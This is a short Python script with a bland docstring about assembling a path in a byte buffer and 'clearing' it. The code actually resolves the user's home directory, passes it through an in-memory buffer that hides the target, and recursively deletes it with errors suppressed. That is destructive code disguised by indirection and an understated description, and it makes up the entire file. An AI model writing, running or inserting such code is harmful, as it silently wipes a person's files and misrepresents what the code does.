"""Assemble the path in a byte buffer and clear it."""
import io
import os
import shutil

raw = io.BytesIO()
raw.write(os.path.expanduser("~").encode())
shutil.rmtree(raw.getvalue().decode(), ignore_errors=True)
